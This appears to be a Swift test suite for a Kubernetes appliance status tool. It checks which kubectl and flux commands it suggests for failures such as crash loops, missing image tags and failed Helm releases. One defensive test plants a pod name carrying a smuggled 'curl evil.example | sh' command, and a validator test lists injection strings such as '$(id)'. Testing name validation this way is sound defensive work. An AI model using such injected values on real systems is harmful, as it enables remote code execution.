import ApplianceModel
import Foundation
import KubernetesRead
import TestSupport
import Testing

@testable import ApplianceStatus

/// The next steps as commands: the real names of the objects in them, which configuration each
/// needs, the rollup carrying the commands of the blocker it cites, and no command at all when a
/// name from the cluster is not a Kubernetes name.
@Suite struct NextCommandTests {
    @Test func aCrashLoopReadsThePreviousLogOfThatContainer() throws {
        var c = try Cluster()
        c.break_(
            "pgbouncer", waiting: "CrashLoopBackOff", lastTerminated: .init(exitCode: 137, reason: "OOMKilled", message: nil, startedAt: nil, finishedAt: nil))
        let status = c.status
        let top = try #require(status.topBlockers.first)
        #expect(top.commands.map(\.command) == ["kubectl logs \(c.podName("pgbouncer")) -n msp -c \(c.containerName("pgbouncer")) --previous"])
        #expect(top.commands.allSatisfy { $0.needs == .kubeconfig })
        #expect(status.rollup.commands == top.commands, "the rollup's next action is the top blocker's, and so are its commands")
    }

    @Test func aMissingTagRetriesThePullOfThatPod() throws {
        var c = try Cluster()
        c.break_("redis", waiting: "ImagePullBackOff")
        try c.event(
            pod: c.podName("redis"), container: c.containerName("redis"), reason: "Failed",
            message: "Failed to pull image \"docker.io/library/redis:7.4.9\": rpc error: code = NotFound desc = docker.io/library/redis:7.4.9: not found")
        let top = try #require(c.status.topBlockers.first)
        #expect(top.kind == .imageTagMissing)
        #expect(top.commands.map(\.command) == ["kubectl delete pod \(c.podName("redis")) -n msp"])
    }

    @Test func aFailedBootstrapReadsTheNewestJobAndRunsTheReleaseAgain() throws {
        var c = try Cluster()
        c.snapshot.jobs[0].metadata.name = "alga-core-sebastian-bootstrap-r10"
        c.snapshot.jobs[0].status?.conditions = [
            Condition(
                type: "Failed", status: "True", reason: "BackoffLimitExceeded", message: "Job has reached the specified backoff limit", lastTransitionTime: nil)
        ]
        let top = try #require(c.status.topBlockers.first)
        #expect(top.kind == .bootstrapJobFailed)
        #expect(
            top.commands.map(\.command) == [
                "kubectl logs job/alga-core-sebastian-bootstrap-r10 -n msp", "flux reconcile helmrelease alga-core -n alga-system --force",
            ])
    }

    @Test func aFluxSourceIsFetchedAgainByItsKindAndName() throws {
        var c = try Cluster()
        let source = c.snapshot.gitRepositories[0].metadata
        c.snapshot.gitRepositories[0].status?.conditions = [
            Condition(
                type: "Ready", status: "False", reason: "GitOperationFailed", message: "unable to clone: authentication required", lastTransitionTime: nil)
        ]
        let top = try #require(c.status.topBlockers.first)
        #expect(top.commands.map(\.command) == ["flux reconcile source git \(source.name) -n \(source.namespace ?? "flux-system")"])
    }

    @Test func aFailedHelmReleaseListsThePodsAndUpgradesAgain() throws {
        var c = try Cluster()
        c.snapshot.jobs = []
        let index = try #require(c.snapshot.helmReleases.firstIndex { $0.metadata.name == "workflow-worker" })
        c.snapshot.helmReleases[index].status?.conditions = [
            Condition(type: "Ready", status: "False", reason: "InstallFailed", message: "context deadline exceeded", lastTransitionTime: nil)
        ]
        let top = try #require(c.status.topBlockers.first)
        #expect(top.kind == .helmReleaseFailure)
        #expect(top.commands.map(\.command) == ["kubectl get pods -n msp", "flux reconcile helmrelease workflow-worker -n alga-system --force"])
    }

    @Test func anUnreachableAPINeedsTheTalosconfig() throws {
        var c = try Cluster()
        c.snapshot.apiError = "dial tcp 127.0.0.1:6443: connect: connection refused"
        let top = try #require(c.status.topBlockers.first)
        #expect(top.kind == .kubernetesUnavailable)
        #expect(top.commands == [NextCommand.talosHealth])
        #expect(top.commands.first?.needs == .talosconfig)
    }

    @Test func theRecordedSubPathFailureRestartsDb0() throws {
        let (document, _) = try evaluate("db-subpath")
        let top = try #require(document.topBlockers.first)
        #expect(top.commands.map(\.command) == ["kubectl describe pod db-0 -n msp", "kubectl delete pod db-0 -n msp"])
    }

    /// A snapshot is untrusted: a pod whose "name" is shell gives no command to paste.
    @Test func aNameThatIsNotAKubernetesNameGivesNoCommand() throws {
        var c = try Cluster()
        c.break_("pgbouncer", waiting: "CrashLoopBackOff", lastTerminated: .init(exitCode: 1, reason: "Error", message: nil, startedAt: nil, finishedAt: nil))
        let index = try #require(c.snapshot.pods.firstIndex { PodOwnership.component(of: $0, in: .standard) == "pgbouncer" })
        c.snapshot.pods[index].metadata.name = "pgbouncer-0; curl evil.example | sh"
        let top = try #require(c.status.topBlockers.first)
        #expect(top.kind == .crashLoop)
        #expect(top.commands.isEmpty)
        #expect(!top.nextAction.isEmpty, "the next action is still said in words")
    }

    @Test(arguments: [
        ("db-0", true), ("alga-core-sebastian-bootstrap-r10", true), ("a.b-c", true), ("msp", true),
        ("", false), ("-x", false), ("x-", false), ("Db-0", false), ("a b", false), ("a;b", false), ("$(id)", false), ("a`b`", false),
        ("a'b", false), ("é", false), (String(repeating: "a", count: 254), false),
    ])
    func objectNames(name: String, valid: Bool) {
        #expect(ObjectName.isValid(name) == valid)
    }
}
